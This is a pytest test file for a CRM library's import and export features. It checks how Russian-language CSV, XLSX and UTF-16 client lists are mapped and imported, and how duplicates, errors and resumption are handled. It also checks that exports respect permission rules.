"""Imports from Russian-Excel CSV and XLSX: mapping, preview, dry run, duplicates, errors,
resuming; exports with access rules."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest
from openpyxl import Workbook, load_workbook
from sqlalchemy import func, select

from crmkit import Pipeline, Stage, StageKind, Transition, hookimpl
from crmkit.errors import NotFound, PermissionDenied, ValidationFailed
from crmkit.model import ContactPoint, ImportRun, MatchWord, MatchWordVariant, Party
from crmkit.services import imports
from crmkit.services.imports import export_parties, run_import
from crmkit.testing import add_user

CSV_1251 = (
    "Название;Телефон;E-mail;ИНН;Выручка;Дата договора;Ответственный\n"
    "ООО «Ромашка»;8 (916) 123-45-67;info@romashka.ru;7701234567;1 234 567,89;31.12.2025;anna\n"
    "ЗАО Вектор;+7 495 765-43-21;;7702222222;10,5;01.02.2024;\n"
    "ИП Сидоров;12-34;;;много;32.13.2024;\n"
    "Ромашка;+7 916 1234567;;;;;\n"
)


@pytest.fixture
def setup(crm):
    anna = add_user(crm, "anna", ["manager"])
    with crm.system() as work:
        for key, label, kind in [
            ("inn", "ИНН", "text"),
            ("revenue", "Выручка", "money"),
            ("contract_date", "Дата договора", "date"),
        ]:
            work.custom_fields.define(entity="party", key=key, label=label, kind=kind)
    return anna


def _start(crm, user, data, name="clients.csv", **options):
    with crm.acting_as(user) as work:
        run = work.imports.start(name, data, **options)
        return run.id, dict(run.mapping)


def test_russian_csv_is_read_mapped_and_imported_with_an_error_report(crm, setup):
    anna = setup
    run_id, mapping = _start(crm, anna, CSV_1251.encode("cp1251"), source="old-crm")
    assert mapping["Название"] == "name" and mapping["ИНН"] == "custom.inn"
    assert mapping["Ответственный"] == "owner"
    with crm.acting_as(anna) as work:
        preview = work.imports.preview(run_id)
        assert preview[0]["values"]["custom"] == {
            "inn": "7701234567",
            "revenue": "1234567.89",
            "contract_date": "2025-12-31",
        }
        assert {e["column"] for e in preview[2]["errors"]} == {"Выручка", "Дата договора"}
        work.imports.queue(run_id)
    assert run_import(crm, run_id) == 4
    with crm.system() as work:
        run = work.session.get(ImportRun, run_id)
        assert (run.status, run.created, run.skipped) == ("done", 2, 1)  # row 5 = row 2's phone
        romashka = work.parties.by_contact("phone", "+79161234567")[0]
        assert romashka.owner_id == anna.id
        assert Decimal(str(romashka.custom["revenue"])) == Decimal("1234567.89")
        assert romashka.custom["contract_date"] == "2025-12-31"
        report = work.imports.error_report(run_id).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(report), delimiter=";"))
    assert rows[0] == ["row", "column", "reason"]
    assert {(r[0], r[1]) for r in rows[1:]} == {("4", "Выручка"), ("4", "Дата договора")}
    # the mapping is remembered for the source
    _run2, mapping2 = _start(crm, anna, "Название;Что-то\nX;1\n".encode(), source="old-crm")
    assert mapping2["Название"] == "name"


def test_duplicates_choice_per_row_dry_run_and_bom(crm, setup):
    anna = setup
    with crm.acting_as(anna) as work:
        existing = work.parties.create(
            name="ООО «Ромашка»", contact_points=[{"kind": "phone", "value": "89161234567"}]
        )
    data = ("\ufeffНазвание,Телефон,Должность\nРомашка,+7 916 123 45 67,поставщик\n"
            "Новая фирма,+7 999 000 00 01,\n").encode()  # fmt: skip
    run_id, _ = _start(crm, anna, data, dry_run=True)
    run_import(crm, run_id)
    with crm.system() as work:
        run = work.session.get(ImportRun, run_id)
        assert (run.status, run.created, run.skipped) == ("dry_run", 1, 1)
        assert work.session.scalar(select(func.count()).select_from(Party)) == 1
    run_id, _ = _start(crm, anna, data)
    with crm.acting_as(anna) as work:
        assert work.imports.preview(run_id)[0]["duplicate_of"] == existing.id
        work.imports.configure(run_id, choices={2: "update"})
    run_import(crm, run_id)
    with crm.system() as work:
        assert work.parties.get(existing.id).position == "поставщик"
        assert work.session.scalar(select(func.count()).select_from(Party)) == 2


def test_xlsx_import_resumes_after_a_failure_without_half_rows(crm, setup, monkeypatch):
    anna = setup
    book = Workbook()
    sheet = book.active
    sheet.append(["Name", "Phone"])
    for i in range(10):
        sheet.append([f"Фирма {i}", f"+7 916 000-00-{i:02d}"])
    buffer = io.BytesIO()
    book.save(buffer)
    run_id, _ = _start(crm, anna, buffer.getvalue(), name="list.xlsx")
    real = imports._run_batch
    calls = []

    def flaky(*args, **kwargs):
        calls.append(1)
        if len(calls) == 3:
            raise ConnectionError("the database went away")
        return real(*args, **kwargs)

    monkeypatch.setattr(imports, "_run_batch", flaky)
    with pytest.raises(ConnectionError):
        run_import(crm, run_id, batch_rows=3)
    with crm.system() as work:
        run = work.session.get(ImportRun, run_id)
        assert (run.status, run.done_rows, run.created) == ("failed", 6, 6)
        assert work.session.scalar(select(func.count()).select_from(Party)) == 6
    assert run_import(crm, run_id, batch_rows=3) == 10
    with crm.system() as work:
        names = sorted(work.session.scalars(select(Party.name)))
        assert names == sorted(f"Фирма {i}" for i in range(10))


def test_a_large_import_feeds_the_vocabulary_screening_corrects_against(crm, setup):
    """Batches of hundreds of new words take the bulk path (COPY and ``INSERT ... ON
    CONFLICT ... RETURNING`` on PostgreSQL, with the planner statistics refreshed between
    batches); words repeated across batches and files are stored once, and a typo of an
    imported name still finds it."""
    anna = setup
    syllables = ["ба", "ве", "ги", "до", "зу", "ка", "ле", "ми", "но", "пу", "ра", "се"]
    names = [
        f"{a}{b}{c}{d}".capitalize() + f" {e}{f}{a}{b}" + " Трейд"
        for a, b, c, d, e, f in zip(
            syllables * 30,
            [s for s in syllables for _ in range(12)] * 3,
            ["ро", "ту", "фа"] * 120,
            [s for s in syllables for _ in range(30)],
            ["мо", "ны", "ли", "за"] * 90,
            ["ра"] * 360,
            strict=False,
        )
    ]
    names = list(dict.fromkeys(names))[:300]
    body = "Название;Телефон\n" + "".join(
        f"{name};+7 916 {i // 10_000:03d}-{i // 100 % 100:02d}-{i % 100:02d}\n"
        for i, name in enumerate(names)
    )
    run_id, _ = _start(crm, anna, body.encode(), on_duplicate="create")
    assert run_import(crm, run_id, batch_rows=120) == len(names)
    # the same words again, in a second file: none is added twice
    again = "Название\n" + "".join(f"{name} Групп\n" for name in names[:150])
    run_id, _ = _start(crm, anna, again.encode(), on_duplicate="create")
    run_import(crm, run_id, batch_rows=100)
    with crm.system() as work:
        words = list(work.session.scalars(select(MatchWord.word)))
        assert len(words) == len(set(words))
        assert {"treid", "grupp"} <= set(words)
        variants = work.session.execute(
            select(MatchWordVariant.variant, MatchWordVariant.word)
        ).all()
        assert len(variants) == len(set(variants))
        assert ("treid", "treid") in variants and ("tred", "treid") in variants
    target = names[123]
    first, second, _ = target.split()
    typo = first[:2] + first[3] + first[2] + first[4:]  # two letters swapped
    with crm.acting_as(anna) as work:
        found = work.screening.candidates(f"{typo} {second} Трейд")
        by_name = {c.name: c for c in found}
        assert target in by_name and "name" in by_name[target].reasons


def test_export_applies_access_rules(crm):
    ann, bob = add_user(crm, "ann", ["agent"]), add_user(crm, "bob", ["agent"])
    with crm.acting_as(ann) as work:
        work.parties.create(name="Моя фирма", contact_points=[{"kind": "email", "value": "a@b.ru"}])
    with crm.acting_as(bob) as work:
        work.parties.create(name="Чужая фирма")
    with crm.acting_as(ann) as work:
        text = export_parties(work, "csv").decode("utf-8-sig")
        data = export_parties(work, "xlsx")
    assert "Моя фирма" in text and "a@b.ru" in text and "Чужая" not in text
    sheet = load_workbook(io.BytesIO(data)).active
    assert [row[1] for row in sheet.iter_rows(min_row=2, values_only=True)] == ["Моя фирма"]


def test_export_needs_the_export_permission_and_keeps_to_its_scope(crm):
    """A role that may read clients but not export them exports nothing; one that may read
    every client but export only its own exports its own."""
    ann, bob = add_user(crm, "ann", ["agent"]), add_user(crm, "bob", ["agent"])
    with crm.acting_as(ann) as work:
        work.parties.create(name="Моя фирма")
    with crm.acting_as(bob) as work:
        work.parties.create(name="Чужая фирма")
    with crm.system() as work:
        work.permissions.set("agent", "party", "read", "all")
    with crm.acting_as(ann) as work:
        assert work.parties.count() == 2
        text = export_parties(work, "csv").decode("utf-8-sig")
    assert "Моя фирма" in text and "Чужая" not in text
    with crm.system() as work:
        work.permissions.set("agent", "party", "export", "none")
    with crm.acting_as(ann) as work, pytest.raises(PermissionDenied):
        export_parties(work, "xlsx")


def test_another_users_import_is_opened_with_the_import_permission_not_a_role_name(crm, setup):
    """A manager's import is hidden from another manager; an admin opens it, and so does
    any role granted ``import`` on clients over all records (no role name is checked)."""
    anna = setup
    run_id, _ = _start(crm, anna, "Название\nООО «Ромашка»\n".encode())
    boris = add_user(crm, "boris", ["manager"])
    with crm.acting_as(boris) as work, pytest.raises(NotFound):
        work.imports.preview(run_id)
    with crm.acting_as(add_user(crm, "boss", ["admin"])) as work:
        assert work.imports.get(run_id).created_by_id == anna.id
        work.permissions.set("manager", "party", "import", "all")
    with crm.acting_as(boris) as work:
        assert work.imports.preview(run_id)[0]["values"]["name"] == "ООО «Ромашка»"
    with crm.system() as work:
        work.permissions.set("manager", "party", "import", "own")
    with crm.acting_as(boris) as work, pytest.raises(NotFound):
        work.imports.get(run_id)


def _run(crm, user, body, **options):
    run_id, _ = _start(crm, user, body.encode(), **options)
    run_import(crm, run_id)
    with crm.system() as work:
        run = work.session.get(ImportRun, run_id)
        return run_id, run.possible_duplicates, (run.created, run.updated, run.skipped)


def test_a_typo_of_a_clients_name_is_a_possible_duplicate_the_row_choice_decides(crm, setup):
    """A look-alike name (one typo) is reported with the client's id and score, created on
    every file-wide setting (a guess never skips or overwrites), and skipped or updated
    only when its row's choice says so; a name merely sharing a common word is not one."""
    anna = setup
    with crm.acting_as(anna) as work:
        romashka = work.parties.create(name="«Ромашка»").id
        vector = work.parties.create(name="ООО Вектор Трейд").id
    body = 'Название;Должность\nООО "Рамашка";поставщик\nРомашка Трейд;\nВекторр Трейд;\n'
    for policy in ("skip", "update", "create"):
        with crm.system() as work:
            before = work.session.scalar(select(func.count()).select_from(Party))
        run_id, found, counts = _run(crm, anna, body, on_duplicate=policy, dry_run=True)
        assert [(d["row"], d["duplicate_of"], d["action"]) for d in found] == [
            (2, romashka, "create"),
            (4, vector, "create"),
        ], policy
        assert found[0]["score"] >= 85 and "possible duplicate of client" in found[0]["reason"]
        assert counts == (3, 0, 0)
    with crm.system() as work:
        assert work.session.scalar(select(func.count()).select_from(Party)) == before
        report = work.imports.error_report(run_id).decode("utf-8-sig")
    assert f"client #{romashka}" in report and "similar name" in report
    # the preview shows the candidate; the row's choice is applied
    run_id, _ = _start(crm, anna, body.encode(), on_duplicate="update")
    with crm.acting_as(anna) as work:
        shown = work.imports.preview(run_id)
        assert [(r["duplicate_of"], r["match"], r["action"]) for r in shown] == [
            (romashka, "similar name", "create"),
            (None, None, "create"),
            (vector, "similar name", "create"),
        ]
        assert shown[0]["score"] >= 85
        work.imports.configure(run_id, choices={2: "update", 4: "skip"})
        assert work.imports.preview(run_id)[0]["action"] == "update"
    run_import(crm, run_id)
    with crm.system() as work:
        run = work.session.get(ImportRun, run_id)
        assert (run.created, run.updated, run.skipped) == (1, 1, 0 + 1)
        assert [(d["row"], d["action"]) for d in run.possible_duplicates] == [
            (2, "update"),
            (4, "skip"),
        ]
        assert run.row_errors == []
        assert work.parties.get(romashka).position == "поставщик"
        assert work.parties.get(romashka).name == "«Ромашка»"  # not the row's spelling
        assert work.session.scalar(select(func.count()).select_from(Party)) == 3


@pytest.mark.parametrize("reader", ["thread", "process"])
def test_look_alikes_among_the_rows_of_the_file_and_exact_keys_win(crm, setup, reader, monkeypatch):
    """A later row looks like an earlier one (in the same batch and across batches); an
    exact duplicate is still handled by ``on_duplicate``, not reported as a look-alike.
    Large files are looked up in a process of their own, small ones in a thread."""
    anna = setup
    if reader == "process":
        monkeypatch.setattr(imports, "PROCESS_BATCHES", 2)
    with crm.acting_as(anna) as work:
        romashka = work.parties.create(
            name="Ромашка", contact_points=[{"kind": "phone", "value": "+7 916 123-45-67"}]
        ).id
    body = (
        "Название;Телефон\n"
        "Рамашка;+7 916 123 45 67\n"  # the client's phone: an exact duplicate, skipped
        "Одуванчик;\n"
        "Лютик Сервис;\n"
        "Лютикк Сервис;\n"  # like row 4, in the same batch
        "Адуванчик;\n"  # like row 3, written by an earlier batch
        "Лютик Сервиз;\n"  # like row 4, written while this batch was prepared
    )
    run_id, _ = _start(crm, anna, body.encode(), on_duplicate="skip")
    run_import(crm, run_id, batch_rows=2)
    with crm.system() as work:
        run = work.session.get(ImportRun, run_id)
        assert run.possible_duplicate_count == 3
        found = {d["row"]: d for d in run.possible_duplicates}
        assert sorted(found) == [5, 6, 7] and (run.skipped, run.created) == (1, 5)
        assert found[5]["duplicate_row"] == 4 and found[5]["duplicate_of"] is None
        assert "row 4 'Лютик Сервис'" in found[5]["reason"]
        dandelion = work.session.scalar(select(Party.id).where(Party.name == "Одуванчик"))
        assert found[6]["duplicate_of"] == dandelion
        # the row before may be committed or not when the batch is prepared: either way
        buttercup = work.session.scalar(select(Party.id).where(Party.name == "Лютик Сервис"))
        assert found[7]["duplicate_row"] in (4, 5) or found[7]["duplicate_of"] == buttercup
        assert romashka not in {d["duplicate_of"] for d in found.values()}


def test_possible_duplicates_past_the_limit_are_counted_not_listed(crm, setup, monkeypatch):
    anna = setup
    monkeypatch.setattr(imports, "REPORTED_LOOKALIKES", 1)
    with crm.acting_as(anna) as work:
        work.parties.create(name="Ромашка")
        work.parties.create(name="Одуванчик")
    run_id, _ = _start(crm, anna, "Название\nРамашка\nАдуванчик\n".encode())
    run_import(crm, run_id, batch_rows=1)
    with crm.system() as work:
        run = work.session.get(ImportRun, run_id)
        assert run.possible_duplicate_count == 2 and run.created == 2
        assert [d["row"] for d in run.possible_duplicates] == [2]


UNGUARDED_SCRIPT = """
import pathlib, sys
from crmkit.app import CRM
from crmkit.services.imports import run_import
from crmkit.testing import add_user

with open(sys.argv[2], "a") as marker:  # no `if __name__ == "__main__":` guard
    marker.write("ran\\n")
crm = CRM.from_directory(sys.argv[1])
anna = add_user(crm, "anna", ["manager"])
body = "Название\\n" + "".join(f"Клиент номер {n}\\n" for n in range(8))
with crm.acting_as(anna) as work:
    run_id = work.imports.start("clients.csv", body.encode()).id
print("imported", run_import(crm, run_id, batch_rows=2))
crm.close()
"""


def test_an_unguarded_script_imports_once(tmp_path):
    """A script without the ``__main__`` guard runs a large import (its look-ups in a
    process of their own): the process does not run the script a second time."""
    import subprocess
    import sys

    from crmkit.cli import main

    directory = tmp_path / "crm"
    try:
        main(["init", str(directory)])
    except SystemExit as exc:
        assert not exc.code
    script, marker = tmp_path / "script.py", tmp_path / "ran.txt"
    script.write_text(UNGUARDED_SCRIPT, encoding="utf-8")
    assert imports.PROCESS_BATCHES <= 8 // 2  # the look-ups run in a process
    done = subprocess.run(
        [sys.executable, str(script), str(directory), str(marker)],
        capture_output=True,
        text=True,
        timeout=300,
    )
    assert done.returncode == 0, done.stderr
    assert done.stdout.split() == ["imported", "8"]
    assert marker.read_text().splitlines() == ["ran"]


def test_a_name_of_one_letter_is_imported(crm, setup):
    """«ООО А» has no blocking key of its own (one letter): the row is still planned and
    written, and a second row of the same name is its exact duplicate."""
    anna = setup
    run_id, _ = _start(crm, anna, "Название\nООО А\nБета\nА\n".encode(), on_duplicate="skip")
    assert run_import(crm, run_id) == 3
    with crm.system() as work:
        run = work.session.get(ImportRun, run_id)
        assert (run.status, run.created, run.skipped) == ("done", 2, 1)
        assert work.session.scalar(select(func.count()).where(Party.name == "ООО А")) == 1


@pytest.mark.parametrize("encoding", ["utf-16-le", "utf-16-be"])
def test_excel_unicode_text_is_read_as_utf16(crm, setup, encoding):
    """Excel's "Unicode text" (.txt: UTF-16 with a BOM, tabs between columns) is imported
    with its Cyrillic headers guessed, not read as windows-1251."""
    anna = setup
    text = "Название\tТелефон\r\nООО «Ромашка»\t+7 916 123-45-67\r\nЗАО Вектор\t\r\n"
    data = "\ufeff".encode(encoding) + text.encode(encoding)
    run_id, mapping = _start(crm, anna, data, name="clients.txt")
    assert mapping == {"Название": "name", "Телефон": "phone"}
    run_import(crm, run_id)
    with crm.system() as work:
        names = sorted(work.session.scalars(select(Party.name)))
        assert names == ["ЗАО Вектор", "ООО «Ромашка»"]
        assert work.parties.by_contact("phone", "+79161234567")[0].name == "ООО «Ромашка»"


def test_a_file_that_is_not_text_is_refused_naming_the_byte_and_line(crm, setup):
    """A byte windows-1251 does not define (0x98) is a validation error on the file that
    says where it is, not a crash."""
    anna = setup
    data = "Название;Телефон\nООО Альфа;1\n".encode("cp1251") + b"\x98\xc1\xe5\xf2\xe0;2\n"
    with pytest.raises(ValidationFailed) as refused:
        _start(crm, anna, data)
    [message] = refused.value.errors["file"]
    assert str(message) == (
        "not UTF-8 or windows-1251 text: byte 30 (line 3) is 0x98; save the file as CSV UTF-8"
    )
    with pytest.raises(ValidationFailed) as refused:
        _start(crm, anna, b"\xff\xfe" + "Название\n".encode("utf-16-le") + b"\x00\xdc")
    assert str(refused.value.errors["file"][0]).startswith("not UTF-16 text: byte ")


def test_a_contact_with_nothing_left_to_compare_is_no_duplicate(crm, setup):
    """A site typed as `http://` or `::::` has an empty key: it used to match every other
    such site, so a row was skipped (or, on "update", written over an unrelated client)
    as a duplicate of it. Now each row is created with its value kept as typed."""
    anna = setup
    with crm.acting_as(anna) as work:
        alpha = work.parties.create(
            name="Альфа", contact_points=[{"kind": "website", "value": "http://"}]
        ).id
    body = "Название;Сайт;Должность\nБета;::::;директор\nГамма;http://;\nДельта;<>;\n"
    _, _, counts = _run(crm, anna, body, on_duplicate="update")
    assert counts == (3, 0, 0)
    with crm.system() as work:
        assert work.parties.get(alpha).position is None
        sites = dict(
            work.session.execute(
                select(Party.name, ContactPoint.value).join(ContactPoint.party)
            ).all()
        )
    assert sites == {"Альфа": "http://", "Бета": "::::", "Гамма": "http://", "Дельта": "<>"}


@pytest.mark.parametrize("name", ["clients.csv", "clients.xlsx"])
def test_columns_of_one_name_are_each_imported(crm, setup, name):
    """Excel exports often repeat a header (`Телефон;Телефон`, work and mobile): the mapping
    named both by one key, so the second was guessed as nothing and neither phone was
    imported. The repeated column is `Телефон (2)`, and each phone column is a phone."""
    anna = setup
    rows = [
        ["Название", "Телефон", "Телефон", "Мобильный", "Комментарий", "Комментарий"],
        ["Альфа", "+7 495 111-22-33", "+7 916 123-45-67", "8 903 000-00-01", "первый", "второй"],
    ]
    if name.endswith(".xlsx"):
        book = Workbook()
        for row in rows:
            book.active.append(row)
        buffer = io.BytesIO()
        book.save(buffer)
        data = buffer.getvalue()
    else:
        data = "".join(";".join(row) + "\n" for row in rows).encode("cp1251")
    run_id, mapping = _start(crm, anna, data, name=name)
    assert mapping == {
        "Название": "name",
        "Телефон": "phone",
        "Телефон (2)": "phone",
        "Мобильный": "phone",
        "Комментарий": "description",
        "Комментарий (2)": "",
    }
    run_import(crm, run_id)
    with crm.system() as work:
        party = work.session.scalars(select(Party)).one()
        assert sorted(c.key for c in party.contact_points) == [
            "+74951112233",
            "+79030000001",
            "+79161234567",
        ]
        assert party.description == "первый"


def test_a_cell_listing_several_phones_gives_each_phone(crm, setup):
    """`8 916 123-45-67, 8 903 000-00-01` in one cell was kept as one invalid phone (its
    key the digits of both): neither phone found the client, nor matched a duplicate. A
    cell whose parts are each a phone gives each; an extension stays with its phone."""
    anna = setup
    with crm.acting_as(anna) as work:
        work.parties.create(
            name="Старая Альфа", contact_points=[{"kind": "phone", "value": "+7 903 000-00-01"}]
        )
    body = (
        "Название;Телефон\n"
        "Альфа;8 916 123-45-67, 8 (903) 000-00-01\n"
        'Бета;"+7 495 765-43-21; +7 495 765-43-22"\n'
        "Гамма;+7 495 111-22-33, доб. 123\n"
        "Дельта;12-34, 56\n"
    )
    _, _, counts = _run(crm, anna, body, on_duplicate="update")
    assert counts == (3, 1, 0)  # Альфа's second phone is Старая Альфа's
    with crm.system() as work:
        phones = {
            party.name: sorted(c.value for c in party.contact_points)
            for party in work.session.scalars(select(Party))
        }
    assert phones == {
        "Альфа": ["+7 903 000-00-01", "8 916 123-45-67"],  # the row's name: an update
        "Бета": ["+7 495 765-43-21", "+7 495 765-43-22"],
        "Гамма": ["+7 495 111-22-33, доб. 123"],
        "Дельта": ["12-34, 56"],
    }


def test_a_nul_character_is_refused_naming_its_byte_and_line(crm, setup):
    """A NUL character (UTF-16 saved without its BOM, or a damaged file) was read as text:
    PostgreSQL then failed the whole run, SQLite kept names with NULs in them."""
    anna = setup
    data = "Название;Телефон\nООО Альфа;1\n".encode() + b"\xd0\x91\x00\xd0\xb5;2\n"
    with pytest.raises(ValidationFailed) as refused:
        _start(crm, anna, data)
    assert str(refused.value.errors["file"][0]) == (
        "not UTF-8 or windows-1251 text: byte 55 (line 3) is 0x00; save the file as CSV UTF-8"
    )
    with pytest.raises(ValidationFailed) as refused:  # UTF-16 without its BOM
        _start(crm, anna, "Название\tТелефон\r\nАльфа\t1\r\n".encode("utf-16-le"))
    assert "(line 1) is 0x00" in str(refused.value.errors["file"][0])
    with crm.system() as work:
        assert work.session.scalar(select(func.count()).select_from(ImportRun)) == 0


def test_a_quote_never_closed_is_refused_naming_its_line(crm, setup):
    """A cell opened with a quote and never closed took in every line after it (the rest
    of the file became one client's name or comment, without a word, or a cell too long
    for the reader failed the upload): the file is refused naming the line."""
    anna = setup
    body = 'Название;Комментарий\nАльфа;ok\nБета;"звонить после 18\nГамма;3\nДельта;4\n'
    with pytest.raises(ValidationFailed) as refused:
        _start(crm, anna, body.encode())
    assert str(refused.value.errors["file"][0]) == (
        'line 3: a quote (") opens a cell that is never closed'
    )
    long = 'Название;Комментарий\nАльфа;ok\nБета;"' + "слово " * 30000 + "\nГамма;3\n"
    with pytest.raises(ValidationFailed) as refused:
        _start(crm, anna, long.encode())
    assert str(refused.value.errors["file"][0]) == (
        'line 3: a cell of more than 131072 characters (is a quote (") left open?)'
    )
    # a quoted cell of several lines, closed, is one cell as before
    fine = 'Название;Комментарий\nАльфа;"две\nстроки ""в кавычках"""\nБета;2\n'
    run_id, _ = _start(crm, anna, fine.encode())
    run_import(crm, run_id)
    with crm.system() as work:
        comments = dict(work.session.execute(select(Party.name, Party.description)).all())
    assert comments == {"Альфа": 'две\nстроки "в кавычках"', "Бета": "2"}


def test_rows_are_numbered_as_the_file_shows_them(crm, setup):
    """Errors, possible duplicates, the preview and the per-row choices name a row by its
    number in the file (the header is 1): a blank line and a quoted cell of two lines
    count, in every batch; in an XLSX sheet, the sheet's row number."""
    anna = setup
    with crm.acting_as(anna) as work:
        existing = work.parties.create(
            name="Ромашка", contact_points=[{"kind": "phone", "value": "+7 916 123-45-67"}]
        ).id
    body = (
        "Название;Выручка;Должность;Телефон\n"  # 1
        "Альфа;10;;\n"  # 2
        "\n"  # 3: blank
        'Бета;1;"первая строка\n'  # 4
        'вторая строка";\n'  # 5
        ";;;\n"  # 6: blank cells
        "Гамма;много;;\n"  # 7: a bad number
        "Ромашка;;поставщик;+7 916 123 45 67\n"  # 8: a duplicate
    )
    run_id, _ = _start(crm, anna, body.encode(), on_duplicate="skip")
    with crm.acting_as(anna) as work:
        shown = work.imports.preview(run_id)
        assert [r["row"] for r in shown] == [2, 4, 7, 8]
        assert shown[3]["duplicate_of"] == existing and shown[2]["errors"]
        work.imports.configure(run_id, choices={8: "update"})
    run_import(crm, run_id, batch_rows=1)
    with crm.system() as work:
        run = work.session.get(ImportRun, run_id)
        assert [(e["row"], e["column"]) for e in run.row_errors] == [(7, "Выручка")]
        assert (run.done_rows, run.total_rows, run.created, run.updated) == (4, 4, 2, 1)
        assert work.parties.get(existing).position == "поставщик"
        report = work.imports.error_report(run_id).decode("utf-8-sig")
    assert report.splitlines()[1].startswith("7;Выручка;")
    book = Workbook()
    sheet = book.active
    sheet.append(["Name", "Выручка"])
    sheet.append(["Дельта", "1"])
    sheet.append([])  # row 3 left empty
    sheet.cell(row=4, column=1, value="Эпсилон")
    sheet.cell(row=4, column=2, value="много")
    buffer = io.BytesIO()
    book.save(buffer)
    run_id, _ = _start(crm, anna, buffer.getvalue(), name="list.xlsx")
    with crm.acting_as(anna) as work:
        assert [r["row"] for r in work.imports.preview(run_id)] == [2, 4]
    run_import(crm, run_id)
    with crm.system() as work:
        run = work.session.get(ImportRun, run_id)
        assert [(e["row"], e["column"]) for e in run.row_errors] == [(4, "Выручка")]


def test_a_file_whose_name_column_is_not_guessed_is_mapped_after_the_upload(crm, setup):
    """The upload keeps a file whose name column is not recognised; the name is mapped
    afterwards (or given with the file), and only a run with a name is queued."""
    anna = setup
    data = "Контрагент;Тел.\nООО Альфа;+7 916 111-22-33\n".encode("cp1251")
    run_id, mapping = _start(crm, anna, data)
    assert mapping == {"Контрагент": "", "Тел.": ""}
    with crm.acting_as(anna) as work, pytest.raises(ValidationFailed, match="to the name"):
        work.imports.queue(run_id)
    with crm.acting_as(anna) as work:
        work.imports.configure(run_id, mapping={"Контрагент": "name", "Тел.": "phone"})
        work.imports.queue(run_id)
    run_import(crm, run_id)
    with crm.system() as work:
        assert work.parties.by_contact("phone", "+79161112233")[0].name == "ООО Альфа"
    # given with the file: the other columns are still guessed; a wrong column is named
    run_id, mapping = _start(crm, anna, "Контрагент;Телефон\nБета;1\n".encode(),
                             mapping={"Контрагент": "name"})  # fmt: skip
    assert mapping == {"Контрагент": "name", "Телефон": "phone"}
    with pytest.raises(ValidationFailed) as refused:
        _start(crm, anna, data, mapping={"Контрагнет": "name"})
    assert refused.value.errors == {"Контрагнет": ["no such column in the file"]}


def test_a_real_run_after_a_dry_run_writes_every_row_and_counts_afresh(crm, setup):
    """The dry run's counts and report are not carried into the real run that follows it:
    the real run writes the rows and reports what it wrote."""
    anna = setup
    with crm.acting_as(anna) as work:
        work.parties.create(name="Ромашка")
    body = "Название;Выручка\nАльфа;1\nБета;много\nРамашка;\n"
    run_id, _ = _start(crm, anna, body.encode(), dry_run=True)
    run_import(crm, run_id)
    with crm.system() as work:
        run = work.session.get(ImportRun, run_id)
        assert (run.status, run.created, len(run.row_errors)) == ("dry_run", 2, 1)
        assert run.possible_duplicate_count == 1
        assert work.session.scalar(select(func.count()).select_from(Party)) == 1
    with crm.acting_as(anna) as work:
        work.imports.configure(run_id, dry_run=False)
        work.imports.queue(run_id)
    assert run_import(crm, run_id) == 3
    with crm.system() as work:
        run = work.session.get(ImportRun, run_id)
        assert (run.status, run.done_rows, run.created, run.skipped) == ("done", 3, 2, 0)
        assert [e["row"] for e in run.row_errors] == [3]
        assert [d["row"] for d in run.possible_duplicates] == [4]
        assert run.possible_duplicate_count == 1
        names = set(work.session.scalars(select(Party.name)))
        assert names == {"Ромашка", "Альфа", "Рамашка"}


def test_a_dry_run_refuses_the_rows_the_real_run_refuses(crm, setup):
    """The dry run checked rows with the input schema alone: a value the write refuses
    (a sum too large, a stage with no pipeline) stopped the whole dry run, or passed it
    and failed in the real run. Both now give the same counts and report."""
    anna = setup
    body = "Название;Выручка;Статус\nАльфа;1e30;\nБета;;нет такой\nГамма;5;\n"
    run_id, _ = _start(crm, anna, body.encode(), dry_run=True)
    run_import(crm, run_id)
    reports = []
    with crm.system() as work:
        run = work.session.get(ImportRun, run_id)
        assert work.session.scalar(select(func.count()).select_from(Party)) == 0
        reports.append((run.status, run.created, run.row_errors))
    with crm.acting_as(anna) as work:
        work.imports.configure(run_id, dry_run=False)
        work.imports.queue(run_id)
    run_import(crm, run_id)
    with crm.system() as work:
        run = work.session.get(ImportRun, run_id)
        reports.append((run.status, run.created, run.row_errors))
        assert list(work.session.scalars(select(Party.name))) == ["Гамма"]
    lines = [
        {"row": 2, "column": "Выручка", "reason": "out of range (less than 10^15)"},
        {"row": 3, "column": "Статус", "reason": "give the pipeline of the stage"},
    ]
    assert reports == [("dry_run", 1, lines), ("done", 1, lines)]


def test_an_update_row_refused_leaves_the_client_as_it_was(crm, setup):
    """A duplicate row updating a client and refused for one cell (a tag too long) is
    reported and written not at all: neither its fields nor its new contacts."""
    anna = setup
    with crm.acting_as(anna) as work:
        client = work.parties.create(
            name="Ромашка", contact_points=[{"kind": "phone", "value": "+7 916 123-45-67"}]
        ).id
    body = (
        "Название;Телефон;E-mail;Должность;Теги\n"
        f"Ромашка;+7 916 123 45 67;new@romashka.ru;поставщик;{'т' * 101}\n"
    )
    _, _, counts = _run(crm, anna, body, on_duplicate="update")
    assert counts == (0, 0, 0)
    with crm.system() as work:
        run = work.session.scalars(select(ImportRun)).one()
        assert [(e["row"], e["column"]) for e in run.row_errors] == [(2, "Теги")]
        party = work.parties.get(client)
        assert party.position is None
        assert [c.kind for c in party.contact_points] == ["phone"]  # no new email
        assert work.parties.tags_of(party) == []


def test_a_cell_the_database_cannot_hold_skips_its_row_not_the_file(crm, setup):
    """A number that is no number (NaN, Infinity) or too large to keep, a position longer
    than its column, a tag too long: each row is reported by its number and the file's
    column, and the other rows are imported (on PostgreSQL such a cell failed the whole
    run; on SQLite the long position was kept whole)."""
    anna = setup
    body = (
        "Название;Выручка;Должность;Теги\n"
        "Альфа;NaN;;\n"
        "Бета;Infinity;;\n"
        "Гамма;1e30;;\n"
        f"Дельта;;{'д' * 201};\n"
        f"Эпсилон;;;vip, {'т' * 101}\n"
        "Зета;1 000,5;директор;vip\n"
    )
    run_id, _, counts = _run(crm, anna, body)
    assert counts == (1, 0, 0)
    with crm.system() as work:
        run = work.session.get(ImportRun, run_id)
        assert run.status == "done"
        assert sorted((e["row"], e["column"], e["reason"]) for e in run.row_errors) == [
            (2, "Выручка", "'NaN' is not a number"),
            (3, "Выручка", "'Infinity' is not a number"),
            (4, "Выручка", "out of range (less than 10^15)"),
            (5, "Должность", "longer than 200 characters"),
            (6, "Теги", "longer than 100 characters"),
        ]
        assert list(work.session.scalars(select(Party.name))) == ["Зета"]


@pytest.mark.parametrize("sees", [False, True], ids=["hidden", "read-only"])
